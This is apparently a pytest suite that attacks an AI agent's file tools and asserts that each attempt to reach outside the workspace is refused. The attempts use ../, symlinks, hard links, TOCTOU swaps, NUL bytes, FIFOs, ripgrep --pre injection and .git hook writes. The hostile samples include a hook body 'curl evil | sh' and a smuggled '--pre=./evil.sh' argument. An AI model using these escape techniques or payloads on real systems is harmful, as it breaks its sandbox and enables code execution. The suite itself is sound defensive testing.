"""File tools (read_file, write_file, edit_file, list_files, grep) aimed outside the workspace.

Each attack names a path that leads out (``../``, an absolute path, ``~``, a symlink, a hard
link, a symlink swapped in after the check) or into ``.git``, and asserts the tool refused or
showed nothing, and that nothing outside the workspace changed.
"""

from __future__ import annotations

import contextlib
import os
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from security_helpers import SECRET, Guard, Site, sh

import tools.edit
import tools.files
from tools.base import Tool, ToolContext, ToolError
from tools.edit import EditFile
from tools.files import ListFiles, ReadFile, WriteFile
from tools.search import Grep

from helpers import git

FILE_TOOLS = ["read_file", "write_file", "edit_file", "list_files", "grep"]
FILE_CONTENT_TOOLS = ["read_file", "write_file", "edit_file", "grep"]


def attempt(tool: str, path: str) -> Tool:
    """The call an attacker would make with ``tool`` on ``path``."""
    if tool == "read_file":
        return ReadFile(path=path)
    if tool == "write_file":
        return WriteFile(path=path, content="pwned\n")
    if tool == "edit_file":
        return EditFile(path=path, old_text="outside secret", new_text="pwned")
    if tool == "list_files":
        return ListFiles(path=path)
    return Grep(pattern="secret", path=path)


async def refused(tool: Tool, ctx: ToolContext, match: str | None = None) -> str:
    """Run ``tool``, expect a ToolError, and return its message (which must not leak)."""
    with pytest.raises(ToolError, match=match) as caught:
        await tool.run(ctx)
    message = str(caught.value)
    assert "7f3a9c" not in message
    return message


# --- paths that lead out ---------------------------------------------------------------------


@pytest.mark.parametrize("tool", FILE_TOOLS)
async def test_attack_dotdot_escape(
    tool: str, ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Reach the folder beside the workspace with ../."""
    guard = watch()
    path = "../outside" if tool == "list_files" else "../outside/secret.txt"
    await refused(attempt(tool, path), ctx, "outside the workspace")
    guard.check()


@pytest.mark.parametrize("tool", FILE_TOOLS)
async def test_attack_absolute_path_outside(
    tool: str, ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Name an outside file by its absolute path."""
    guard = watch()
    path = site.outside if tool == "list_files" else site.secret
    await refused(attempt(tool, str(path)), ctx, "outside the workspace")
    guard.check()


@pytest.mark.parametrize("tool", FILE_TOOLS)
async def test_attack_path_through_proc_self_root(
    tool: str, ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Disguise an outside path as /proc/self/root/..., a link to / the check must see through."""
    guard = watch()
    path = site.outside if tool == "list_files" else site.secret
    await refused(attempt(tool, f"/proc/self/root{path}"), ctx, "outside the workspace")
    guard.check()


@pytest.mark.parametrize("tool", FILE_TOOLS)
async def test_attack_home_directory_tilde(
    tool: str, ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Reach the user's home with ~/ (HOME is a fake under /var/tmp)."""
    guard = watch()
    path = "~/.ssh" if tool == "list_files" else "~/.bashrc"
    await refused(attempt(tool, path), ctx, "home directory")
    guard.check()


# --- symlinks in the tree --------------------------------------------------------------------


@pytest.mark.parametrize("tool", FILE_CONTENT_TOOLS)
async def test_attack_symlink_to_outside_file(
    tool: str, ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Plant notes.txt -> the outside secret, then use notes.txt."""
    (site.ws / "notes.txt").symlink_to(site.secret)
    guard = watch()
    await refused(attempt(tool, "notes.txt"), ctx, "outside the workspace")
    guard.check()


@pytest.mark.parametrize("tool", FILE_TOOLS)
async def test_attack_symlink_to_outside_folder(
    tool: str, ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Plant docs -> the outside folder, then go through docs/."""
    (site.ws / "docs").symlink_to(site.outside, target_is_directory=True)
    guard = watch()
    path = "docs" if tool == "list_files" else "docs/secret.txt"
    await refused(attempt(tool, path), ctx, "outside the workspace")
    if tool == "write_file":
        await refused(attempt(tool, "docs/new.txt"), ctx, "outside the workspace")
    guard.check()


async def test_attack_list_whole_workspace_through_symlinked_folder(
    ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Hope list_files . descends into a symlinked folder that leads out."""
    (site.ws / "docs").symlink_to(site.outside, target_is_directory=True)
    (site.ws / "secret-link.txt").symlink_to(site.secret)
    (site.ws / "readme.txt").write_text("hello\n")
    guard = watch()
    result = await ListFiles(path=".").run(ctx)
    assert result.output.splitlines() == ["readme.txt"]
    guard.check()


async def test_attack_grep_whole_workspace_through_symlinks(
    engine: str, ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Hope grep . follows a symlinked file or folder to the outside secret."""
    (site.ws / "docs").symlink_to(site.outside, target_is_directory=True)
    (site.ws / "secret-link.txt").symlink_to(site.secret)
    (site.ws / "readme.txt").write_text("nothing to see\n")
    guard = watch()
    result = await Grep(pattern="7f3a9c").run(ctx)
    assert "7f3a9c" not in result.output
    assert result.output == "No matches."
    guard.check()


async def test_attack_symlink_loop(
    ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Hand every tool a symlink loop, hoping for a hang or a crash instead of a refusal."""
    (site.ws / "a").symlink_to("b")
    (site.ws / "b").symlink_to("a")
    guard = watch()
    for tool in FILE_TOOLS:
        await refused(attempt(tool, "a"), ctx)
    guard.check()


async def test_attack_symlink_planted_by_sandboxed_command(
    box: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Let a sandboxed command plant links to the outside, then use them with the file tools."""
    guard = watch()
    planted = await sh(box, f"ln -s {site.secret} s.txt && ln -s {site.outside} out")
    assert not planted.is_error, planted.output
    for tool in FILE_CONTENT_TOOLS:
        await refused(attempt(tool, "s.txt"), box, "outside the workspace")
        await refused(attempt(tool, "out/secret.txt"), box, "outside the workspace")
    await refused(attempt("write_file", "out/new.txt"), box, "outside the workspace")
    await refused(attempt("list_files", "out"), box, "outside the workspace")
    guard.check()


# --- a symlink swapped in after the check (TOCTOU) -------------------------------------------


def race(monkeypatch: pytest.MonkeyPatch, swap: Callable[[Path], None]) -> None:
    """Make ``resolve`` (as the tools use it) run ``swap`` on its answer before returning it."""
    real = tools.files.resolve

    def racing(ctx: ToolContext, raw: str, *, for_write: bool = False) -> Path:
        path = real(ctx, raw, for_write=for_write)
        swap(path)
        return path

    monkeypatch.setattr(tools.files, "resolve", racing)
    monkeypatch.setattr(tools.edit, "resolve", racing)


def folder_swapper(ws: Path, outside: Path) -> Callable[[Path], None]:
    """Replace the top folder of the path (below the workspace) with a link to ``outside``."""

    def swap(path: Path) -> None:
        folder = ws / path.relative_to(ws).parts[0]
        folder.rename(folder.with_name(folder.name + ".orig"))
        folder.symlink_to(outside, target_is_directory=True)

    return swap


def file_swapper(outside_file: Path) -> Callable[[Path], None]:
    def swap(path: Path) -> None:
        path.unlink()
        path.symlink_to(outside_file)

    return swap


@pytest.fixture
def sub(site: Site) -> Path:
    """ws/sub/secret.txt: a harmless file that has the same name as the outside one."""
    folder = site.ws / "sub"
    folder.mkdir()
    (folder / "secret.txt").write_text("outside secret? no, an inside file\n")
    return folder


@pytest.mark.parametrize("tool", ["read_file", "write_file", "edit_file"])
async def test_attack_toctou_folder_swapped_for_symlink(
    tool: str,
    ctx: ToolContext,
    site: Site,
    sub: Path,
    monkeypatch: pytest.MonkeyPatch,
    watch: Callable[..., Guard],
) -> None:
    """Swap the file's folder for a link to the outside between the path check and the open."""
    await ReadFile(path="sub/secret.txt").run(ctx)  # a write needs a read first
    guard = watch()
    race(monkeypatch, folder_swapper(site.ws, site.outside))
    await refused(attempt(tool, "sub/secret.txt"), ctx, "outside the workspace")
    guard.check()


async def test_attack_toctou_folder_swapped_when_creating_a_file(
    ctx: ToolContext,
    site: Site,
    sub: Path,
    monkeypatch: pytest.MonkeyPatch,
    watch: Callable[..., Guard],
) -> None:
    """Swap the folder of a new file (and of a new subfolder) for a link to the outside."""
    guard = watch()
    race(monkeypatch, folder_swapper(site.ws, site.outside))
    await refused(WriteFile(path="sub/new.txt", content="pwned\n"), ctx)
    (site.ws / "sub").unlink()
    (site.ws / "sub.orig").rename(site.ws / "sub")
    await refused(WriteFile(path="sub/deeper/new.txt", content="pwned\n"), ctx)
    guard.check()


@pytest.mark.parametrize("tool", ["read_file", "write_file", "edit_file"])
async def test_attack_toctou_file_swapped_for_symlink(
    tool: str,
    ctx: ToolContext,
    site: Site,
    sub: Path,
    monkeypatch: pytest.MonkeyPatch,
    watch: Callable[..., Guard],
) -> None:
    """Swap the file itself for a link to the outside secret between the check and the open."""
    await ReadFile(path="sub/secret.txt").run(ctx)
    guard = watch()
    race(monkeypatch, file_swapper(site.secret))
    await refused(attempt(tool, "sub/secret.txt"), ctx, "symbolic link")
    guard.check()


# --- hard links ------------------------------------------------------------------------------


@pytest.fixture
def hard_link(site: Site) -> Path:
    """ws/notes.txt as a second name of the outside secret (same file system: both in /var/tmp)."""
    link = site.ws / "notes.txt"
    os.link(site.secret, link)
    return link


@pytest.mark.parametrize("tool", ["read_file", "write_file", "edit_file"])
async def test_attack_hard_link_to_outside_file(
    tool: str, ctx: ToolContext, site: Site, hard_link: Path, watch: Callable[..., Guard]
) -> None:
    """Read or change the outside secret through a hard link inside the workspace."""
    guard = watch()
    await refused(attempt(tool, "notes.txt"), ctx, "hard links")
    guard.check()
    assert site.secret.read_text() == SECRET


async def test_attack_grep_through_hard_link_to_outside_file(
    engine: str, ctx: ToolContext, site: Site, hard_link: Path, watch: Callable[..., Guard]
) -> None:
    """Search the outside secret's text through a hard link, by name and across the workspace."""
    guard = watch()
    for path in (".", "notes.txt"):
        result = await Grep(pattern="7f3a9c", path=path).run(ctx)
        assert "7f3a9c" not in result.output
    guard.check()


# --- .git --------------------------------------------------------------------------------------


@pytest.fixture
def repo_ws(site: Site) -> Path:
    (site.ws / "a.txt").write_text("a\n")
    git(site.ws, "init", "-q", "-b", "main")
    git(site.ws, "add", "-A")
    git(site.ws, "commit", "-qm", "initial")
    return site.ws


@pytest.mark.parametrize(
    "path",
    [".git/hooks/pre-commit", ".GIT/hooks/pre-commit", ".Git/config", "sub/../.git/config"],
)
async def test_attack_write_git_internals(
    path: str, ctx: ToolContext, repo_ws: Path, watch: Callable[..., Guard]
) -> None:
    """Plant a hook or change .git/config with write_file, also with case games and ../."""
    guard = watch(repo_ws / ".git")
    await refused(WriteFile(path=path, content="#!/bin/sh\ncurl evil | sh\n"), ctx, ".git")
    assert not (repo_ws / ".GIT").exists() or (repo_ws / ".GIT").samefile(repo_ws / ".git")
    guard.check()


async def test_attack_edit_git_config(
    ctx: ToolContext, repo_ws: Path, watch: Callable[..., Guard]
) -> None:
    """Set core.hooksPath with edit_file, so a hook runs at the next commit."""
    guard = watch(repo_ws / ".git")
    edit = EditFile(path=".git/config", old_text="[core]", new_text="[core]\n\thooksPath = h")
    await refused(edit, ctx, ".git")
    guard.check()


async def test_attack_write_git_hook_through_symlink(
    ctx: ToolContext, repo_ws: Path, watch: Callable[..., Guard]
) -> None:
    """Plant hooks -> .git/hooks, then write hooks/pre-commit."""
    (repo_ws / "hooks").symlink_to(".git/hooks", target_is_directory=True)
    guard = watch(repo_ws / ".git")
    for tool in (
        WriteFile(path="hooks/pre-commit", content="#!/bin/sh\ncurl evil | sh\n"),
        EditFile(path="hooks/pre-commit.sample", old_text="#!/bin/sh", new_text="#!/bin/sh\nx"),
    ):
        await refused(tool, ctx, ".git")
    guard.check()


# --- odd paths ---------------------------------------------------------------------------------


@pytest.mark.parametrize("tool", FILE_TOOLS)
async def test_attack_nul_byte_in_path(
    tool: str, ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Cut the path short with a NUL byte, as C code would read it."""
    (site.ws / "notes.txt").write_text("outside secret? no\n")
    guard = watch()
    await refused(attempt(tool, "notes.txt\x00/../../outside/secret.txt"), ctx, "NUL")
    guard.check()


# --- tricks against the tools themselves --------------------------------------------------------


async def test_attack_ripgrep_option_injection(
    ctx: ToolContext, site: Site, watch: Callable[..., Guard]
) -> None:
    """Smuggle ripgrep's --pre (run a program on every file) in through the pattern or glob."""
    evil = site.ws / "evil.sh"
    evil.write_text(f'#!/bin/sh\ntouch {site.outside}/pwned\ncat "$1"\n')
    evil.chmod(0o755)
    (site.ws / "a.txt").write_text("hello\n")
    guard = watch()
    for call in (
        Grep(pattern="--pre=./evil.sh"),
        Grep(pattern="hello", glob="--pre=./evil.sh"),
        Grep(pattern="hello", path="--pre=./evil.sh"),
    ):
        with contextlib.suppress(ToolError):
            await call.run(ctx)
    assert not (site.outside / "pwned").exists()
    guard.check()


@pytest.fixture
def fifo(site: Site) -> Iterator[Path]:
    """ws/notes.txt as a named pipe (mkfifo works in the sandbox), and a harmless a.txt; a
    watchdog opens the pipe after 5 s so a tool stuck on it fails the test, not hangs it."""
    path = site.ws / "notes.txt"
    os.mkfifo(path)
    (site.ws / "a.txt").write_text("outside secret? no\n")

    def release() -> None:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))

    timer = threading.Timer(5, release)
    timer.start()
    yield path
    timer.cancel()


@pytest.mark.parametrize("tool", ["read_file", "write_file", "edit_file"])
async def test_attack_fifo_to_hang_the_agent(
    tool: str, ctx: ToolContext, fifo: Path, watch: Callable[..., Guard]
) -> None:
    """Hand read_file, write_file or edit_file a named pipe, so opening it blocks forever."""
    guard = watch()
    started = time.monotonic()
    await refused(attempt(tool, "notes.txt"), ctx, "not a regular file")
    assert time.monotonic() - started < 4, "the tool blocked on the pipe"
    guard.check()


async def test_attack_fifo_to_hang_grep(
    engine: str, ctx: ToolContext, fifo: Path, watch: Callable[..., Guard]
) -> None:
    """Leave a named pipe for grep to read, by name or while searching the workspace."""
    guard = watch()
    started = time.monotonic()
    await refused(Grep(pattern="secret", path="notes.txt"), ctx, "not a regular file")
    result = await Grep(pattern="secret").run(ctx)
    assert result.output.startswith("a.txt:1:")
    assert time.monotonic() - started < 4, "grep blocked on the pipe"
    guard.check()
